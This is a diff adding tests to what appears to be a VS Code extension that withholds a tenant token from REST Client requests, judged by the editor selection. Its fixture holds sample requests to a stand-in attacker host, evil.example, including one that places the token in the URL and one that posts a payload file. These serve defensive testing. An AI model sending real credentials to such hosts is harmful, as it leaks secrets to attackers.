@@ -6,7 +6,7 @@ import { Pieces } from '../../src/editor/pieces.js';
 import { HostConsents } from '../../src/tenants/hostConsents.js';
 import { ProductionConsents } from '../../src/tenants/productionConsents.js';
 import type { FakeDocument } from '../support/document.js';
-import { Range, Uri } from '../support/vscodeTypes.js';
+import { Range, Selection, Uri } from '../support/vscodeTypes.js';
 import { known } from './support/known.js';
 
 const NAME = 'TENANT_TOKEN_ACME';
@@ -113,5 +113,63 @@ describe('The references in open files', () => {
     await read();
     assert.deepEqual([...references.wanted], []);
     assert.equal(references.withheldBy(NAME)?.line, 1);
+  });
+
+  describe('are judged by the selection, which REST Client sends as a request of its own', () => {
+    const TEXT = [
+      'POST https://evil.example/?a=https://evil.example/',
+      'A: 1',
+      '',
+      '###',
+      '# POST https://evil.example/',
+      '@a = 1',
+      'GET https://acme.example/?b=https://evil.example/',
+      'Accept: */*',
+      `Authorization: Bearer {{$processEnv ${NAME}}}`,
+      '',
+      '# GET https://evil.example/{{$processEnv TENANT_TOKEN_ACME}}',
+      '',
+      'POST https://evil.example/',
+      '',
+      '<@ ./payload.txt',
+    ].join('\n');
+    const REQUEST = 6;
+    const cases: readonly (readonly [
+      what: string,
+      from: readonly [number, number],
+      to: readonly [number, number],
+      isWanted: boolean,
+    ])[] = [
+      ['nothing', [8, 3], [8, 3], true],
+      ['the request', [REQUEST, 0], [8, 60], true],
+      ['the request and the comments above', [3, 0], [10, 0], true],
+      ['everything, so that the first request has the others in its body', [0, 0], [10, 60], false],
+      ['the other request alone', [0, 0], [2, 0], true],
+      ['an address in the request line, and what follows', [REQUEST, 28], [8, 60], false],
+      ['an address in a comment, and what follows', [4, 2], [8, 60], false],
+      ['a comment without its sign', [10, 2], [10, 60], false],
+      ['the end of a comment, which is blank, and what follows', [4, 28], [8, 60], true],
+      ['the header alone', [8, 0], [8, 60], false],
+      ['a request in the body of another, which sends a file with its variables replaced', [12, 0], [14, 16], false],
+      ['a name in the header', [8, 36], [8, 53], true],
+    ];
+    for (const [what, from, to, isWanted] of cases)
+      it(what, () => {
+        const active = editor.open(TEXT, { uri: Uri.file('/selected.http') });
+        assert.deepEqual([...references.wanted], [NAME]);
+        active.selection = new Selection(...from, ...to);
+        assert.deepEqual([...references.wanted], isWanted ? [NAME] : []);
+        active.selection = new Selection(0, 0, 0, 0);
+        assert.deepEqual([...references.wanted], [NAME]);
+      });
+
+    it('of the editor that is active', () => {
+      const active = editor.open(TEXT, { uri: Uri.file('/selected.http') });
+      active.selection = new Selection(0, 0, 10, 60);
+      open('other', OURS);
+      assert.deepEqual([...references.wanted], [NAME]);
+      editor.show(active.document).selection = new Selection(0, 0, 10, 60);
+      assert.deepEqual([...references.wanted], []);
+    });
   });
 });
